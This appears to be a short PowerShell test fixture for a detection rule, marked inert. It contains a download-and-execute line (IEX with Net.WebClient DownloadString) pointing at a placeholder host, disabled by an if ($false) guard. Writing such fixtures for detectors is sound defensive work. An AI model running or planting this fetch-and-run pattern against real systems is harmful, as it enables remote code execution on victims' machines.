# vouch rule fixture: inert.
if ($false) {
    IEX (New-Object Net.WebClient).DownloadString('https://update.example.invalid/inert.ps1')
}
